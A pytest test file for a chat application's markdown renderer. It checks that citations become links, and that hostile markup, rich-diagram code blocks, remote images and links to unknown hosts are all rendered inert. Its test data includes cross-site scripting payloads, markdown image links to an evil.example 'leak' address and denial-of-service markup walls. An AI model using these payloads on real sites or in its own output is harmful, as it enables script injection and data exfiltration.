import time

import pytest

from chat.markdown import render


def test_a_citation_becomes_a_link_to_its_source():
    assert 'class="cite" href="#source-R-2"' in render("It is free. [2]", "R")


def test_headings_begin_below_those_of_the_page():
    assert render("# Fees", "R").startswith("<h3>")


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "<svg/onload=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        '<div hx-get="/admin/" hx-trigger="load">x</div>',
        "<iframe src=//evil.example></iframe>",
    ],
)
def test_a40_a41_a44_hostile_markup_becomes_inert_text(hostile: str):
    html = render(hostile, "R")
    for live in ("<script", "<img", "<svg", "<iframe", "<div", "<a "):
        assert live not in html


@pytest.mark.parametrize("kind", ["mermaid", "svg", "html", "vega-lite", "latex"])
def test_a75_what_others_render_is_shown_as_code(kind: str):
    source = '%%{init}%% graph TD; A-->B["<img src=x onerror=alert(1)>"]; <svg onload=alert(2)></svg>'
    html = render(f"```{kind}\n{source}\n```", "R")
    assert html.startswith("<pre><code>")
    for live in ("<img", "<svg", "class="):
        assert live not in html
    assert "&lt;svg onload=alert(2)&gt;" in html


@pytest.mark.parametrize(
    "picture",
    ["![x](https://evil.example/leak?q=1)", "![x][1]\n\n[1]: https://evil.example/leak", "![x](//evil.example/p)"],
)
def test_a45_pictures_are_never_loaded(picture: str):
    html = render(picture, "R")
    assert "<img" not in html
    assert "href" not in html


@pytest.mark.parametrize("address", ["https://evil.example/x", "//evil.example/x", "http://help.example/x"])
def test_a45_a_link_to_a_stranger_is_text(address: str, settings):
    settings.CHAT_LINK_HOSTS = ["help.example"]
    html = render(f"[press here]({address})", "R")
    assert "<a" not in html
    assert address in html


def test_a45_a_link_to_a_known_host_can_be_clicked(settings):
    settings.CHAT_LINK_HOSTS = ["help.example"]
    assert '<a href="https://help.example/x" rel="noopener noreferrer nofollow">' in render(
        "[x](https://help.example/x)", "R"
    )


@pytest.mark.parametrize(
    "wall",
    [
        pytest.param("[" * 15_000, id="brackets"),
        pytest.param("|a" * 100 + "|\n" + "|-" * 100 + "|\n" + "a\n" * 3_000, id="cells_of_a_table"),
        pytest.param("> " * 8_000, id="quotes_in_quotes"),
        pytest.param("- " * 8_000, id="lists_in_lists"),
        pytest.param("*a_ " * 4_000, id="emphasis"),
        pytest.param("x" * 200_000, id="one_long_line"),
    ],
)
def test_a66_a_wall_of_markup_costs_no_time(wall: str):
    render("warm", "R")
    began = time.thread_time()
    render(wall, "R")
    assert time.thread_time() - began < 1


def test_a_table_is_a_table():
    assert "<td>$35</td>" in render("| Fee | Amount |\n|---|---|\n| Late | $35 |", "R")
